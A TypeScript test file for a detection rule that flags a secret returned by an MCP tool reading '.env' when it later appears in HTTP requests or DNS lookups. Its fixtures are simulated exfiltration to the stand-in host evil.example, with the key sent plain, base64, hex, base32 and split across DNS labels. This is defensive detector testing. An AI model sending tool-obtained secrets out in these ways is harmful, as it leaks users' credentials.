/** A value of a tool's result that turns up on the network, or in what another server is asked. */
import { expect, it } from 'vitest'
import { dns, ipv4, question, text, udp } from '../../../../fixtures/dissect/build.ts'
import { alertsOf, frameOf } from '../../../../support/rule-alerts.ts'
import { httpRequest, TcpConversation } from '../../../../support/tcp-conversation.ts'

const SECRET = 'sk-live-4f9aB2c7D1e8xQ'
const NOTE = `API_KEY=${SECRET}`
const RULE = `
when: mcpx.method == "tools/call" && jsonrpc.kind == "response"
by: [stdio.server]
carry: { from: [mcpx.content.text], to: [http.request.uri, http.file_data, dns.qry.name], known: [mcpx.argument], within: 10m }
`
const call = (argument: string, id = 1): string =>
  `> {"jsonrpc":"2.0","id":${id},"method":"tools/call","params":{"name":"read","arguments":{"path":${JSON.stringify(argument)}}}}`
const result = (content: string, id = 1): string =>
  `< {"jsonrpc":"2.0","id":${id},"result":{"content":[{"type":"text","text":${JSON.stringify(content)}}]}}`

function http(request: string): { frame: string }[] {
  const packets: Uint8Array[] = []
  new TcpConversation(packets, 40_000, 80).ask(request)
  return packets.map(frameOf)
}
const lookup = (name: string): { frame: string } => frameOf(ipv4(17, udp(40_000, 53, dns(0x0100, [question(name, 1)]))))
const get = (uri: string): { frame: string }[] => http(httpRequest(uri))
const post = (body: string): { frame: string }[] =>
  http(httpRequest('/', `Content-Length: ${body.length}\r\nContent-Type: text/plain\r\n`, 'POST') + body)
const base64 = (plain: string, form: 'base64' | 'base64url' | 'hex' = 'base64'): string =>
  Buffer.from(text(plain)).toString(form)

function base32(plain: string): string {
  const bits = [...text(plain)].map((byte) => byte.toString(2).padStart(8, '0')).join('')
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
    .join('')
}
const cut = (whole: string, length: number): string => (whole.match(new RegExp(`.{1,${length}}`, 'g')) ?? []).join('.')

it.each([
  ['as it is', get(`/c?d=${SECRET}`), 'http.request.uri'],
  ['in a body', post(`stolen: ${SECRET}`), 'http.file_data'],
  ['as base64', get(`/c/${base64(NOTE)}`), 'http.request.uri, base64'],
  ['as base64url in a body', post(`{"d":"${base64(`${NOTE}???`, 'base64url')}"}`), 'http.file_data, base64'],
  ['as hexadecimal', get(`/c?d=${base64(NOTE, 'hex')}`), 'http.request.uri, hexadecimal'],
  ['percent-encoded', get(`/c?d=${SECRET.replaceAll('-', '%2D')}`), 'http.request.uri, percent-encoded'],
  ['as a name', [lookup(`${SECRET}.evil.example`)], 'dns.qry.name'],
  ['as a name in small letters', [lookup(`${SECRET.toLowerCase()}.evil.example`)], 'dns.qry.name'],
  ['cut into labels', [lookup(`1.${cut(SECRET, 8)}.evil.example`)], 'dns.qry.name, cut into labels'],
  ['as hexadecimal in labels', [lookup(`${cut(base64(NOTE, 'hex'), 20)}.evil.example`)], /hexadecimal cut into labels/],
  ['as base32 in labels', [lookup(`${cut(base32(NOTE), 20)}.evil.example`)], /base32/],
])('is told with both frames: %s', async (_, frames, where) => {
  const alerts = await alertsOf(RULE, { stdio: [call('.env'), result(NOTE), ...frames] })
  expect(alerts).toMatchObject([{ key: [['stdio.server', 'server']], count: 1 }])
  expect(alerts[0].rows).toEqual([1, 1 + frames.length])
  expect(alerts[0].reason).toMatch(/^sk-l… \(22 characters\) of mcpx\.content\.text is in /)
  if (typeof where === 'string') expect(alerts[0].reason.endsWith(` is in ${where}`)).toBe(true)
  else expect(alerts[0].reason).toMatch(where)
  expect(JSON.stringify(alerts)).not.toContain(SECRET)
})

it.each([
  ['the value was asked for', [call(SECRET), result(NOTE), ...get(`/c?d=${SECRET}`)]],
  ['it was there before', [...get(`/c?d=${SECRET}`), call('.env'), result(NOTE)]],
  ['it is too late', [call('.env'), result(NOTE), { pause: 601_000 }, ...get(`/c?d=${SECRET}`)]],
  ['it is another value', [call('.env'), result(NOTE), ...get(`/c?d=${SECRET.replace('4', '5')}`)]],
  ['words are shared', [call('.env'), result('internationalization 2026'), ...get('/internationalization/2026')]],
])('is no news: %s', async (_, stdio) => expect(await alertsOf(RULE, { stdio })).toEqual([]))

it('what one server said and another is asked', async () => {
  const rule = `
when: mcpx.method == "tools/call" && jsonrpc.kind == "response"
by: [stdio.pid]
carry: { from: [mcpx.content.text], to: [mcpx.argument_text], differs: [stdio.pid], within: 10m }
`
  const on = (server: string, line: string): string => `${server}${line}`
  const said = [on('a', call('.env')), on('a', result(NOTE))]
  expect(await alertsOf(rule, { stdio: [...said, on('b', call(NOTE))] })).toMatchObject([{ rows: [1, 2] }])
  expect(await alertsOf(rule, { stdio: [...said, on('a', call(NOTE, 2))] })).toEqual([])
})
